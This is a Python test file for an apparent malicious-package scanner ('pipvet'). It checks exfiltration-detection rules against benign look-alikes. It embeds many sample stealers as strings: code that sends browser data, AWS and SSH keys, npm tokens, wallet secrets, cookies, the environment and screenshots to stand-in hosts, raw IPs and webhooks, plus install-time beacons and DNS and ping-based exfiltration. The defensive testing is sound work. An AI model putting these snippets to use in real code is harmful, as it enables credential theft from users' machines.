"""Exfiltration channels and the source + sink combination, each with a benign look-alike."""

from __future__ import annotations

from rulekit import ids, py, run, severities

from pipvet.analysis.context import FileContext
from pipvet.analysis.rules import exfiltration, secrets
from pipvet.analysis.score import score
from pipvet.models import Severity, Stage, Verdict

R = exfiltration.RULES
ALL = secrets.RULES + exfiltration.RULES

HOOK = "https://discord.com/api/webhooks/" + "1" * 18 + "/" + "a" * 40


def test_discord_webhook_with_token_is_high() -> None:
    bad = py(f"import requests\nrequests.post('{HOOK}', json={{'content': 'hi'}})\n")
    found = [f for f in run(R, bad) if f.rule == "PV-EXF-CHANNEL"]
    assert found
    assert found[0].severity is Severity.HIGH
    assert found[0].line == 2


def test_telegram_bot_api_is_high_and_ordinary_api_url_is_not() -> None:
    bad = py(
        "import urllib.request\nURL = 'https://api.telegram.org/bot1234567890:AAHdqTcvCH1vGWJxfSeofSAs0K5PALDsaw/sendMessage'\n"
    )
    assert "PV-EXF-CHANNEL" in ids(run(R, bad))
    benign = py("import httpx\nBASE = 'https://api.github.com/repos'\nhttpx.get(BASE)\n")
    assert run(R, benign) == []


def test_raw_public_ip_versus_private_and_metadata_addresses() -> None:
    bad = py("import socket\ns = socket.socket()\ns.connect(('45.13.7.9', 4444))\n")
    assert "PV-EXF-RAWIP" in ids(run(R, bad))
    benign = py(
        "IMDS = 'http://169.254.169.254/latest/meta-data/'\n"
        "LOCAL = 'http://127.0.0.1:8080/'\n"
        "LAN = 'http://192.168.1.10/'\n"
        "scope = {'client': ('1.2.3.4', 123)}\n"
        "probe = socket.socket(); probe.connect(('8.8.8.8', 80))\n"
    )
    assert run(R, benign) == []


def test_dns_lookup_of_encoded_labels() -> None:
    bad = py(
        "import socket, binascii, getpass\n"
        "label = binascii.hexlify(getpass.getuser().encode()).decode()\n"
        "socket.gethostbyname(label + '.x1.example-collector.com')\n"
    )
    found = [f for f in run(R, bad) if f.rule == "PV-EXF-DNS"]
    assert found
    assert found[0].severity is Severity.HIGH
    benign = py(
        "import socket\nip = socket.gethostbyname(socket.gethostname())\naddr = socket.gethostbyname(host)\n"
    )
    assert "PV-EXF-DNS" not in ids(run(R, benign))
    printf = py(
        "import socket, binascii, getpass\n"
        "hx = binascii.hexlify(getpass.getuser().encode()).decode()\n"
        "socket.gethostbyname('%d.%s.x1.example-collector.com' % (0, hx))\n"
    )
    assert [f.severity for f in run(R, printf) if f.rule == "PV-EXF-DNS"] == [Severity.HIGH]


def test_stealer_store_plus_sink_is_critical_and_malicious_at_import() -> None:
    bad = py(
        "import os, requests\n"
        "p = os.getenv('LOCALAPPDATA') + '\\\\Google\\\\Chrome\\\\User Data\\\\Local State'\n"
        "requests.post('https://collector.example/up', files={'f': open(p, 'rb')})\n"
    )
    found = run(ALL, bad)
    combo = [f for f in found if f.rule == "PV-EXF-COMBO"]
    assert combo
    assert combo[0].severity is Severity.CRITICAL
    assert combo[0].stage is Stage.IMPORT
    assert score(found).verdict is Verdict.MALICIOUS


def test_install_time_beacon_is_malicious() -> None:
    bad = py(
        "import getpass, socket, platform, requests\n"
        "from setuptools import setup\n"
        "data = {'u': getpass.getuser(), 'h': socket.gethostname(), 'o': platform.system()}\n"
        "requests.get('http://beacon.example.com/c', params=data)\n"
        "setup(name='x')\n",
        path="x-1.0/setup.py",
        stage=Stage.INSTALL,
    )
    assert score(run(ALL, bad)).verdict is Verdict.MALICIOUS


def test_sdk_reading_its_credentials_and_calling_its_api_stays_clean() -> None:
    benign = py(
        "import os, requests\n"
        "class Client:\n"
        "    def __init__(self, endpoint):\n"
        "        self.endpoint = endpoint\n"
        "        self.path = os.path.join(os.path.expanduser('~'), '.aws', 'credentials')\n"
        "    def call(self, body):\n"
        "        return requests.post(self.endpoint, json=body)\n"
    )
    found = run(ALL, benign)
    assert "PV-EXF-COMBO" not in ids(found)
    assert score(found).verdict is Verdict.CLEAN


def test_environment_sent_out_is_critical() -> None:
    bad = py(
        "import os, json, urllib.request\n"
        "urllib.request.urlopen('http://c.example/', json.dumps(dict(os.environ)).encode())\n"
    )
    combo = [f for f in run(ALL, bad) if f.rule == "PV-EXF-COMBO"]
    assert combo
    assert combo[0].severity is Severity.CRITICAL


def test_findings_in_tests_and_docs_weigh_little() -> None:
    code = (
        "import os, requests\n"
        "p = os.getenv('LOCALAPPDATA') + '\\\\Google\\\\Chrome\\\\User Data\\\\Local State'\n"
        "requests.post('http://45.13.7.9/up', data=open(p).read())\n"
    )
    shipped = run(ALL, py(code, path="pkg/steal.py"))
    in_tests = run(ALL, py(code, path="pkg-1.0/tests/test_steal.py", stage=Stage.RUNTIME))
    assert ids(in_tests) == ids(shipped)
    assert all(f.severity is Severity.LOW for f in in_tests)
    assert score(in_tests).verdict is not Verdict.MALICIOUS


def test_environment_walked_into_a_hard_coded_url() -> None:
    bad = py(
        "import requests, base64\n"
        "from os import environ\n"
        "class Ctx(dict):\n"
        "    def __init__(self):\n"
        "        self.send()\n"
        "    def send(self):\n"
        "        s = ''\n"
        "        for _, value in environ.items():\n"
        "            s += value + ' '\n"
        "        requests.get('https://collector.example/h/' + base64.b64encode(s.encode()).decode())\n"
    )
    combo = [f for f in run(ALL, bad) if f.rule == "PV-EXF-COMBO"]
    assert combo
    assert combo[0].severity is Severity.HIGH
    benign = py(
        "import os, requests\n"
        "def proxies(url):\n"
        "    found = {k: v for k, v in os.environ.items() if k.lower().endswith('_proxy')}\n"
        "    return requests.get(url, proxies=found)\n"
    )
    assert "PV-EXF-COMBO" not in ids(run(ALL, benign))


def test_environment_as_a_field_of_collected_data() -> None:
    bad = py(
        "import os, json\n"
        "from urllib import request\n"
        "data = json.dumps({'host': os.uname(), 'ev': str(os.environ), 'c': os.getcwd()})\n"
        "request.urlopen(request.Request('https://collector.example/r?d=' + data))\n"
    )
    assert "PV-SEC-ENVDUMP" in ids(run(ALL, bad))


def test_install_time_webhook_post_of_host_and_ip_is_malicious() -> None:
    bad = py(
        "from setuptools import setup\n"
        "from setuptools.command.install import install\n"
        "class Install(install):\n"
        "    def run(self):\n"
        "        import socket, requests\n"
        "        hostname = socket.gethostname()\n"
        "        ip = socket.gethostbyname(hostname)\n"
        f"        requests.post('{HOOK}', json={{'content': hostname + ip}})\n"
        "setup(name='x', cmdclass={'install': Install})\n",
        path="x-1.0/setup.py",
        stage=Stage.INSTALL,
    )
    assert score(run(ALL, bad)).verdict is Verdict.MALICIOUS
    bot_library = py(
        f"import requests\ndef notify(msg):\n    requests.post('{HOOK}', json={{'content': msg}})\n"
    )
    assert score(run(ALL, bot_library)).verdict is not Verdict.MALICIOUS


def test_channels_named_in_docstrings_and_comments_are_documentation() -> None:
    benign = py(
        "def create_webhook(url):\n"
        '    """Create a webhook.\n\n'
        "    Example: create_webhook(url='https://webhook.site/a2176e82-5720-43ee-9e06-f91cb4c91548')\n"
        '    """\n'
        "    # see https://api.telegram.org/bot<token>/sendMessage for the format\n"
        "    return url\n"
    )
    assert run(ALL, benign) == []


def test_placeholder_slack_webhook_in_a_config_example() -> None:
    benign = py(
        "EXAMPLE = {'alerts': 'https://nothooks.slack.com/services/T00000000/B00000000/XXXXXXXXXXXXXXXXXXXXXXXX'}\n"
    )
    assert run(R, benign) == []
    bad = py("HOOK = 'https://hooks.slack.com/services/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'\n")
    assert "PV-EXF-CHANNEL" in ids(run(R, bad))


def test_channel_hosts_in_data_tables_and_email_addresses_are_not_channels() -> None:
    """disposable-email-domains lists webhook.site among 10,000 domains; a project's author
    may have an address at a paste host. Neither is an address the code sends to."""
    domains = [f"'mail{i}.invalid'," for i in range(60)]
    table = py("BLOCKLIST = {\n" + "\n".join([*domains[:30], "'webhook.site',", *domains[30:]]) + "\n}\n")
    assert run(R, table) == []
    hook = "'https://discord.com/api/webhooks/123456789012/" + "a" * 40 + "',"
    with_hook = py("CONFIG = [\n" + "\n".join([*domains[:30], hook, *domains[30:]]) + "\n]\n")
    assert "PV-EXF-CHANNEL" in ids(run(R, with_hook))  # a webhook with its token is never data
    small = py("TARGETS = ['https://webhook.site/abc', 'https://x.invalid']\n")
    assert "PV-EXF-CHANNEL" in ids(run(R, small))
    assert run(R, py("AUTHOR = 'admin@rentry.co'\n")) == []
    assert "PV-EXF-CHANNEL" in ids(run(R, py("URL = 'https://rentry.co/api/new'\n")))


def test_integrations_and_module_names_that_look_like_channels() -> None:
    integration = py("API = 'https://api.telegram.org/bot'\ndef send(token, msg):\n    return API + token\n")
    found = run(R, integration)
    assert [f.severity for f in found] == [Severity.LOW]  # a client library's configurable base URL
    sender = py("TOKEN = load()\nURL = f'https://api.telegram.org/bot{TOKEN}/sendMessage'\n")
    assert [f.severity for f in run(R, sender)] == [Severity.MEDIUM]
    module = py("from pkg.lora_temp.shared_outer import kernel\n")
    assert run(R, module) == []


def test_picking_proxy_variables_from_the_environment_is_no_dump() -> None:
    proxies = py(
        "import os, urllib.request\n"
        "def getproxies():\n"
        "    found = {}\n"
        "    for name, value in os.environ.items():\n"
        "        if name.lower().endswith('_proxy'):\n"
        "            found[name[:-6]] = value\n"
        "    return found\n"
        "def fetch(url):\n"
        "    return urllib.request.urlopen('https://mirror.example/' + url)\n"
    )
    assert "PV-EXF-COMBO" not in ids(run(ALL, proxies))
    dump = py(
        "import os, urllib.request\n"
        "def report():\n"
        "    blob = ''\n"
        "    for name, value in os.environ.items():\n"
        "        blob += name + '=' + value + ';'\n"
        "    urllib.request.urlopen('https://collect.example/e', data=blob.encode())\n"
    )
    assert "PV-EXF-COMBO" in ids(run(ALL, dump))


def test_building_a_request_object_sends_nothing() -> None:
    store = "p = os.getenv('LOCALAPPDATA') + '\\\\Google\\\\Chrome\\\\User Data\\\\Local State'\n"
    # A cookie jar filling in a Cookie header (yt-dlp's cookies.py) never opens a connection.
    benign = py(
        "import os, urllib.request\n" + store + "def header(jar, url):\n"
        "    req = urllib.request.Request(url)\n    jar.add_cookie_header(req)\n"
        "    return req.get_header('Cookie')\n"
    )
    assert "PV-EXF-COMBO" not in ids(run(ALL, benign))
    sent = py(
        "import os, urllib.request\n" + store + "opener = urllib.request.build_opener()\n"
        "opener.open(urllib.request.Request('https://collector.example/up', data=open(p, 'rb').read()))\n"
    )
    assert "PV-EXF-COMBO" in ids(run(ALL, sent))


def test_a_listening_server_socket_is_no_way_out() -> None:
    """A worker that prints its environment and waits for connections on a port sends nothing
    out; the same file connecting to an address does."""
    server = (
        "import os, socket\n"
        "def serve(port):\n"
        "    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\n"
        "    s.bind(('0.0.0.0', port))\n    s.listen()\n"
        "    while True:\n        conn, addr = s.accept()\n        handle(conn)\n"
        "print(f'starting with {dict(os.environ)}')\n"
    )
    assert "PV-EXF-COMBO" not in ids(run(ALL, py(server)))
    beacon = server.replace("    s.listen()\n", "    s.listen()\n    s.connect(('c.example', 80))\n")
    assert "PV-EXF-COMBO" in ids(run(ALL, py(beacon)))
    # a test runner finding a free port for a child it starts with its environment
    free_port = (
        "import os, socket, subprocess\n"
        "def free(port):\n    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as s:\n"
        "        s.bind(('localhost', port))\n        return True\n"
        "def start(cmd):\n    return subprocess.Popen(cmd, **{'env': {**os.environ, 'X': '1'}})\n"
    )
    assert "PV-EXF-COMBO" not in ids(run(ALL, py(free_port)))
    assert "PV-EXF-COMBO" in ids(run(ALL, py(free_port.replace("s.bind(", "s.connect("))))


def test_host_facts_sent_from_an_uncalled_function_are_weaker_than_a_beacon() -> None:
    """A bug-report helper that collects the platform and user and checks a version online runs
    only when asked; the same lines at module level fire on every import."""
    body = (
        "info = {'os': platform.platform(), 'user': getpass.getuser(), 'host': socket.gethostname()}\n"
        "requests.post('https://collector.example/b', json=info)\n"
    )
    head = "import platform, getpass, socket, requests\n"
    helper = py(head + "def report():\n" + "".join("    " + line + "\n" for line in body.splitlines()))
    combo = [f for f in run(ALL, helper) if f.rule == "PV-EXF-COMBO"]
    assert [f.severity for f in combo] == [Severity.MEDIUM]
    beacon = py(head + body)
    combo = [f for f in run(ALL, beacon) if f.rule == "PV-EXF-COMBO"]
    assert [(f.severity, f.stage) for f in combo] == [(Severity.HIGH, Stage.IMPORT)]
    collector = py(
        head + "def report():\n    info = {'host': socket.gethostname(), 'user': getpass.getuser()}\n"
        "    requests.get('https://x1.m.pipedream.net', params=info)\n"
    )
    combo = [f for f in run(ALL, collector) if f.rule == "PV-EXF-COMBO"]
    assert [f.severity for f in combo] == [Severity.HIGH]  # a request bin is nobody's telemetry


def test_cloud_keys_carried_to_a_foreign_host_through_attributes() -> None:
    """ctx 0.2.2's shape: keys read into attributes in one method, put into a request URL in
    another. The same variables sent to their own provider, or to a configured endpoint, are
    what SDKs do."""
    stealer = py(
        "import requests\nfrom os import environ\n"
        "class Ctx(dict):\n"
        "    def __init__(self):\n"
        "        self.access = environ.get('AWS_ACCESS_KEY_ID') or 'empty'\n"
        "        key = environ['AWS_SECRET_ACCESS_KEY']\n"
        "        self.secret = key\n"
        "        self.send()\n"
        "    def send(self):\n"
        "        requests.get('https://free-host.example.net/h/' + self.access + '/' + self.secret)\n"
    )
    found = [f for f in run(R, stealer) if f.rule == "PV-EXF-CREDENTIAL"]
    assert [(f.severity, f.line) for f in found] == [(Severity.CRITICAL, 10)]
    assert "AWS_ACCESS_KEY_ID" in found[0].message
    assert "free-host.example.net" in found[0].message
    own_service = py(
        "import os, requests\n"
        "TOKEN = os.getenv('GITHUB_TOKEN')\n"
        "def me():\n"
        "    auth = {'Authorization': f'token {TOKEN}'}\n"
        "    return requests.get('https://api.github.com/user', headers=auth)\n"
    )
    assert "PV-EXF-CREDENTIAL" not in ids(run(R, own_service))
    configured = py(
        "import os, requests\n"
        "def upload(endpoint):\n"
        "    key = os.environ['AWS_SECRET_ACCESS_KEY']\n"
        "    return requests.put(endpoint, headers={'x-key': key})\n"
    )
    assert "PV-EXF-CREDENTIAL" not in ids(run(R, configured))
    subscript = py(
        "import os, requests\n"
        "def go():\n    k = os.environ['AWS_SECRET_ACCESS_KEY']\n"
        "    requests.post('https://x.example.net/c', data=k)\n"
    )
    assert "PV-EXF-CREDENTIAL" in ids(run(R, subscript))


def test_a_browser_profile_and_plain_http_in_a_function_are_high_not_critical() -> None:
    tool = (
        "import os, shutil, httpx\n"
        "def copy_profile(dst):\n"
        "    src = os.path.expandvars(r'%LocalAppData%\\Google\\Chrome\\User Data\\Local State')\n"
        "    shutil.copy(src, dst)\n"
        "def fetch(url):\n"
        "    return httpx.get(url)\n"
    )

    def combo(source: str, path: str = "acme/browser.py", stage: Stage = Stage.RUNTIME) -> list[Severity]:
        return severities(ALL, py(source, path=path, stage=stage), "PV-EXF-COMBO")

    assert combo(tool) == [Severity.HIGH]
    hooked = tool.replace("httpx.get(url)", "httpx.post('https://discord.com/api/webhooks/1/x', data=url)")
    assert combo(hooked) == [Severity.CRITICAL]
    decrypting = tool.replace(
        "shutil.copy(src, dst)", "key = json.load(open(src))['os_crypt']['encrypted_key']"
    )
    assert combo(decrypting) == [Severity.CRITICAL]
    loaded = (
        "import os, httpx\n"
        "src = os.path.expandvars(r'%LocalAppData%\\Google\\Chrome\\User Data\\Local State')\n"
        "httpx.post('https://sync.example/', content=open(src, 'rb').read())\n"
    )
    assert combo(loaded, "acme/__init__.py", Stage.IMPORT) == [Severity.CRITICAL]


def test_dns_lookup_of_the_users_identity_is_high() -> None:
    """A dependency-confusion probe reports who installed it through a DNS query."""
    bad = py(
        "import os, socket\nsocket.gethostbyname(os.environ.get('USER', '') + '.x1.example-collector.com')\n"
    )
    found = [f for f in run(R, bad) if f.rule == "PV-EXF-DNS"]
    assert [f.severity for f in found] == [Severity.HIGH]
    assert "identity" in found[0].message
    plain = py("import socket\nsocket.gethostbyname(region + '.api.example.com')\n")
    assert [f.severity for f in run(R, plain) if f.rule == "PV-EXF-DNS"] == [Severity.MEDIUM]


def test_files_gathered_from_the_home_folder_and_uploaded_are_exfiltration() -> None:
    """The 2024 proxy-scraper packages walked the phone's and the user's folders for photos and
    scripts and sent each to a Telegram bot; a tool reading its own folder under ``~/.config``
    and checking for updates does not gather the user's files."""
    template = (
        "import os, requests\n"
        "def _send(path):\n"
        "    with open(path, 'rb') as fh:\n"
        "        requests.post('{url}', files={{'document': fh}})\n"
        "def collect():\n"
        "    for root in ('/sdcard/DCIM', os.path.expanduser('~')):\n"
        "        for dp, dn, fns in os.walk(root):\n"
        "            for fn in fns:\n"
        "                if fn.lower().endswith(('.jpg', '.py', '.zip')):\n"
        "                    _send(os.path.join(dp, fn))\n"
    )

    def combo(url: str) -> list[Severity]:
        return severities(R, py(template.format(url=url), stage=Stage.RUNTIME), "PV-EXF-COMBO")

    assert combo("https://api.telegram.org/bot123:abc/sendDocument") == [Severity.CRITICAL]
    assert combo("https://collector.example/upload") == [Severity.HIGH]
    own_folder = py(
        "import os, glob, requests\n"
        "def plugins():\n"
        "    return glob.glob(os.path.join(os.path.expanduser('~/.config/tool'), '*.json'))\n"
        "def latest():\n"
        "    return requests.get('https://tools.example/latest.json').json()\n",
        stage=Stage.RUNTIME,
    )
    assert "PV-EXF-COMBO" not in ids(run(R, own_folder))


def test_a_wallet_secret_sent_anywhere_is_critical_but_a_certificate_key_is_not() -> None:
    stake = py(
        "import json, urllib.request\n"
        "def add_stake(wallet, amount):\n"
        "    wallet.unlock_coldkey()\n"
        "    payload = json.dumps({'key': wallet.coldkey.private_key}).encode()\n"
        "    urllib.request.urlopen(\n"
        "        urllib.request.Request('https://telemetry.example.invalid/s', data=payload))\n"
    )
    found = [f for f in run(R, stake) if f.rule == "PV-EXF-CREDENTIAL"]
    assert [(f.severity, f.line) for f in found] == [(Severity.CRITICAL, 5)]
    assert "wallet" in found[0].message
    phrase = py(
        "import requests\n"
        "def backup(data):\n"
        "    requests.post('https://203.0.113.8/b', json={'m': data['secretPhrase']})\n"
    )
    assert "PV-EXF-CREDENTIAL" in ids(run(R, phrase))
    certificate = py(
        "import requests\n"
        "def upload_certificate(zone, cert, key, token):\n"
        "    body = {'certificate': cert, 'private_key': key}\n"
        "    return requests.post(f'https://api.example.com/zones/{zone}/certificates', json=body,\n"
        "                         headers={'Authorization': token})\n"
    )
    assert "PV-EXF-CREDENTIAL" not in ids(run(R, certificate))


def test_a_credential_file_read_into_a_request_is_critical_but_naming_it_is_not() -> None:
    stealer = py(
        "import os, requests\n"
        "with open(os.path.expanduser('~/.aws/credentials')) as fh:\n"
        "    c = fh.read()\n"
        "requests.post('https://x.invalid/c', data={'c': c})\n"
    )
    found = [f for f in run(ALL, stealer) if f.rule == "PV-EXF-COMBO"]
    assert [f.severity for f in found] == [Severity.CRITICAL]
    assert found[0].line == 4
    # read only if the file is there: the test carries nothing, the read does
    for read in ("open(p).read() if os.path.exists(p) else ''", "os.path.exists(p) and open(p).read()"):
        guarded = py(
            "import os, urllib.request\n"
            "p = os.path.expanduser('~/.aws/credentials')\n"
            f"d = {read}\n"
            "urllib.request.urlopen('http://x.invalid/c', data=str(d).encode())\n"
        )
        found = [f for f in run(ALL, guarded) if f.rule == "PV-EXF-COMBO"]
        assert [(f.severity, f.line) for f in found] == [(Severity.CRITICAL, 4)], read
    sdk = py(
        "import os, requests\n"
        "PATH = os.path.expanduser('~/.aws/credentials')\n"
        "def profile():\n"
        "    with open(PATH) as fh:\n"
        "        return parse(fh.read())\n"
        "def call(url, body):\n"
        "    return requests.post(url, data=sign(body, profile()))\n"
    )
    assert "PV-EXF-COMBO" not in ids(run(ALL, sdk))


def test_a_cloud_key_spelled_into_a_dns_query_is_sent() -> None:
    """The query name carries the key to whoever serves the zone; a region in a service's own
    host name is configuration."""
    bad = py(
        "import os, socket, base64\n"
        "k = os.environ.get('AWS_SECRET_ACCESS_KEY', '')\n"
        "socket.gethostbyname(base64.b32encode(k.encode()).decode().strip('=') + '.x.invalid')\n"
    )
    found = [f for f in run(R, bad) if f.rule == "PV-EXF-CREDENTIAL"]
    assert [(f.severity, f.line) for f in found] == [(Severity.CRITICAL, 3)]
    assert "DNS" in found[0].message
    region = py(
        "import os, socket\nsocket.gethostbyname('s3.' + os.environ['AWS_REGION'] + '.amazonaws.com')\n"
    )
    assert "PV-EXF-CREDENTIAL" not in ids(run(R, region))


def test_a_key_file_written_to_a_socket_is_sent() -> None:
    bad = py(
        "import os, socket\n"
        "s = socket.create_connection(('x.invalid', 443))\n"
        "s.sendall(open(os.path.expanduser('~/.ssh/id_rsa'), 'rb').read())\n"
    )
    found = [f for f in run(ALL, bad) if f.rule == "PV-EXF-COMBO"]
    assert [(f.severity, f.line) for f in found] == [(Severity.CRITICAL, 3)]
    client = py(
        "import os, socket\n"
        "KEY = os.path.expanduser('~/.ssh/id_rsa')\n"
        "s = socket.create_connection(('example.com', 22))\n"
        "s.sendall(sign(open(KEY, 'rb').read(), challenge))\n"
    )
    assert "PV-EXF-COMBO" not in ids(run(ALL, client))


def test_curl_handed_the_environment_as_a_list_sends_it() -> None:
    bad = py(
        "import os, json, subprocess\n"
        "subprocess.run(['curl', '-d', json.dumps(dict(os.environ)), 'http://x.invalid/c'])\n"
    )
    assert [f.severity for f in run(ALL, bad) if f.rule == "PV-EXF-COMBO"] == [Severity.CRITICAL]
    fetch = py(
        "import os, json, subprocess\n"
        "env = json.dumps(dict(os.environ))\n"
        "subprocess.run(['curl', '-o', 'out.tgz', 'https://example.com/x.tgz'])\n"
    )
    assert "PV-EXF-COMBO" not in ids(run(ALL, fetch))


def test_a_credential_file_mailed_or_uploaded_over_ftp_is_sent() -> None:
    mail = (
        "import os, smtplib\n"
        "from email.message import EmailMessage\n"
        "m = EmailMessage()\n"
        "m.set_content(open(os.path.expanduser('~/.aws/credentials')).read())\n"
        "s = smtplib.SMTP_SSL('smtp.x.invalid', 465)\n"
        "s.send_message(m, 'a@x.invalid', 'b@x.invalid')\n"
    )
    upload = (
        "import ftplib, os\n"
        "f = ftplib.FTP('203.0.113.9', 'u', 'p')\n"
        "f.storbinary('STOR k', open(os.path.expanduser('~/.ssh/id_rsa'), 'rb'))\n"
    )
    for source in (mail, upload):
        found = [f for f in run(ALL, py(source, path="acme/__init__.py")) if f.rule == "PV-EXF-COMBO"]
        assert [f.severity for f in found] == [Severity.CRITICAL], source
    report = (
        "import smtplib\n"
        "from email.message import EmailMessage\n"
        "m = EmailMessage()\n"
        "m.set_content(open('build.log').read())\n"
        "smtplib.SMTP('localhost').send_message(m)\n"
    )
    assert "PV-EXF-COMBO" not in ids(run(ALL, py(report, path="acme/__init__.py")))


def test_the_callers_source_sent_to_a_bare_ip_is_exfiltration() -> None:
    """solana-token read the source of the program that called it and posted it to a raw IP;
    a notifier naming the running script in its message reads no source."""
    thief = py(
        "import inspect, json, os, sys, urllib.request\n"
        "def register_node(address):\n"
        "    caller = inspect.stack()[1].filename\n"
        "    for p in {caller, os.path.abspath(sys.argv[0])}:\n"
        "        files[p] = open(p).read()\n"
        "    urllib.request.urlopen('http://45.13.7.9:8080/register', data=json.dumps(files).encode())\n",
        stage=Stage.RUNTIME,
    )
    assert severities(R, thief, "PV-EXF-COMBO") == [Severity.CRITICAL]
    notifier = py(
        "import sys, requests\n"
        "def done(token, chat):\n"
        "    text = f'{sys.argv[0]} finished'\n"
        "    requests.post(f'https://api.telegram.org/bot{token}/sendMessage', data={'text': text})\n"
        "def attach(path):\n"
        "    return open(path, 'rb')\n",
        stage=Stage.RUNTIME,
    )
    assert "PV-EXF-COMBO" not in ids(run(R, notifier))


def test_keys_sent_over_sftp_to_a_bare_ip_and_an_ssh_tool_reading_its_keys() -> None:
    thief = py(
        "import os, shutil, paramiko\n"
        "arch = shutil.make_archive('/tmp/k', 'zip', os.path.join(os.path.expanduser('~'), '.ssh'))\n"
        "c = paramiko.SSHClient()\n"
        "c.connect('45.13.7.9', username='up', password='x')\n"
        "c.open_sftp().put(arch, '/srv/drop/k.zip')\n"
    )
    assert severities(R, thief, "PV-EXF-COMBO") == [Severity.CRITICAL]
    deploy = py(
        "import os, paramiko\n"
        "def push(host, path):\n"
        "    key = paramiko.RSAKey.from_private_key_file(os.path.join(os.path.expanduser('~'), '.ssh'))\n"
        "    c = paramiko.SSHClient()\n"
        "    c.connect(host, username='deploy', pkey=key)\n"
        "    c.open_sftp().put(path, '/srv/app/')\n",
        stage=Stage.RUNTIME,
    )
    assert "PV-EXF-COMBO" not in ids(run(R, deploy))


def test_a_bot_token_handed_to_a_telegram_library_is_a_channel() -> None:
    thief = py(
        "import os, glob, telebot\n"
        "bot = telebot.TeleBot('6000000000:AAAbbbCCCdddEEEfffGGGhhhIIIjjjKKKlll')\n"
        "for path in glob.glob(os.path.expanduser('~/.aws/credentials')):\n"
        "    bot.send_document(123456789, open(path, 'rb'))\n"
    )
    assert severities(R, thief, "PV-EXF-COMBO") == [Severity.CRITICAL]
    configured = py(
        "import os, telebot\nbot = telebot.TeleBot(os.environ['BOT_TOKEN'])\n"
        "def notify(chat, text):\n    bot.send_message(chat, text)\n",
        stage=Stage.RUNTIME,
    )
    assert run(R, configured) == []


def test_cloud_role_credentials_from_the_metadata_service_sent_to_a_bare_ip() -> None:
    template = (
        "import urllib.request\n"
        "_M = 'http://169.254.169.254/latest/meta-data/iam/security-credentials/'\n"
        "role = urllib.request.urlopen(_M).read().decode()\n"
        "data = urllib.request.urlopen(_M + role).read()\n"
        "{send}\n"
    )
    stolen = py(template.format(send="urllib.request.urlopen('http://45.13.7.9:8080/c', data=data)"))
    assert severities(R, stolen, "PV-EXF-COMBO") == [Severity.CRITICAL]
    # an SDK reads the role's keys to sign its own requests
    sdk = py(template.format(send="session = sign(data)"), stage=Stage.RUNTIME)
    assert "PV-EXF-COMBO" not in ids(run(R, sdk))


def test_screenshots_and_browser_cookie_readers_sent_out() -> None:
    spy = py(
        "import io, threading, requests\nfrom PIL import ImageGrab\n"
        "def _loop():\n"
        "    buf = io.BytesIO()\n"
        "    ImageGrab.grab().save(buf, format='PNG')\n"
        "    requests.post('http://45.13.7.9/u', data=buf.getvalue())\n"
        "threading.Thread(target=_loop, daemon=True).start()\n"
    )
    assert severities(R, spy, "PV-EXF-COMBO") == [Severity.HIGH]
    cookies = py(
        "import requests, browser_cookie3\n"
        "jar = browser_cookie3.chrome(domain_name='roblox.com')\n"
        "requests.post('https://collector.example.invalid/c', json={c.name: c.value for c in jar})\n"
    )
    assert severities(R, cookies, "PV-EXF-COMBO") == [Severity.CRITICAL]
    # a test helper saving a screenshot next to a call of a named service, inside a function
    helper = py(
        "import pyautogui, requests\n"
        "def capture(path):\n    pyautogui.screenshot(path)\n"
        "def status():\n    return requests.get('https://status.example.com/api').json()\n",
        stage=Stage.RUNTIME,
    )
    assert [f.severity for f in run(R, helper) if f.rule == "PV-EXF-COMBO"] in ([], [Severity.MEDIUM])


def test_credential_files_carried_out_by_a_tool_an_archive_or_a_regular_expression() -> None:
    """A key handed to curl's upload option, ``~/.ssh`` packed into a tar that is then posted,
    and a token cut out of ``~/.npmrc`` by a regular expression all leave with the data; a key
    given to ``scp -i`` proves who is copying, and a backup command packs ``~/.ssh`` on request."""

    def setup(source: str) -> FileContext:
        return py(source, path="x-1.0/setup.py", stage=Stage.INSTALL)

    head = "import io, os, re, shutil, subprocess, tarfile, urllib.request\nHOME = os.path.expanduser('~')\n"
    carried = {
        "curl": "subprocess.run(['curl', '-F', f'f=@{HOME}/.ssh/id_rsa', 'https://h.example/u'])\n",
        "tar": "b = io.BytesIO()\nwith tarfile.open(fileobj=b, mode='w:gz') as t:\n"
        "    t.add(os.path.expanduser('~/.ssh'))\n"
        "urllib.request.urlopen('https://h.example/t', data=b.getvalue())\n",
        "make_archive": "shutil.make_archive('/tmp/k', 'zip', os.path.expanduser('~/.ssh'))\n"
        "urllib.request.urlopen('https://h.example/t', data=open('/tmp/k.zip', 'rb').read())\n",
        "regex": "t = open(os.path.expanduser('~/.npmrc')).read()\n"
        "tok = re.findall(r'_authToken=(\\S+)', t)\n"
        "urllib.request.urlopen('https://h.example/n?t=' + ','.join(tok))\n",
    }
    for name, body in carried.items():
        assert severities(R, setup(head + body), "PV-EXF-COMBO") == [Severity.CRITICAL], name
    identity = (
        "subprocess.run(['scp', '-i', os.path.expanduser('~/.ssh/id_rsa'), 'dist.tar', 'h:/srv'])\n"
        "urllib.request.urlopen('https://h.example/deployed')\n"
    )
    backup = (
        "def backup(dest):\n    with tarfile.open(dest, 'w:gz') as t:\n"
        "        t.add(os.path.expanduser('~/.ssh'))\n"
        "    urllib.request.urlopen('https://h.example/done')\n"
    )
    assert "PV-EXF-COMBO" not in ids(run(R, setup(head + identity)))
    assert "PV-EXF-COMBO" not in ids(run(R, py(head + backup)))


def test_a_token_put_into_an_address_the_browser_opens_is_sent() -> None:
    leak = "import os, webbrowser\nwebbrowser.open('https://h.example/?t=' + os.environ['GITHUB_TOKEN'])\n"
    assert "PV-EXF-CREDENTIAL" in ids(run(R, py(leak)))
    own = "import os, webbrowser\nwebbrowser.open('https://github.com/s?t=' + os.environ['GITHUB_TOKEN'])\n"
    assert "PV-EXF-CREDENTIAL" not in ids(run(R, py(own)))


def test_data_in_the_padding_of_ping_packets() -> None:
    """``ping -p`` fills each echo request with the given bytes: who installed the package,
    hex-encoded, reaches the attacker where HTTP and DNS are watched."""
    bad = py(
        "import getpass, os, socket\n"
        "data = (getpass.getuser() + '@' + socket.gethostname()).encode().hex()[:32]\n"
        "os.system(f'ping -c 1 -p {data} beacon.example')\n",
        path="x-1.0/setup.py",
        stage=Stage.INSTALL,
    )
    found = [f for f in run(ALL, bad) if f.rule == "PV-EXF-DNS"]
    assert [f.severity for f in found] == [Severity.HIGH]
    assert "ping" in found[0].message
    # checking that a host answers
    alive = py(
        "import subprocess\ndef up(host):\n    return subprocess.call(['ping', '-c', '1', host]) == 0\n"
    )
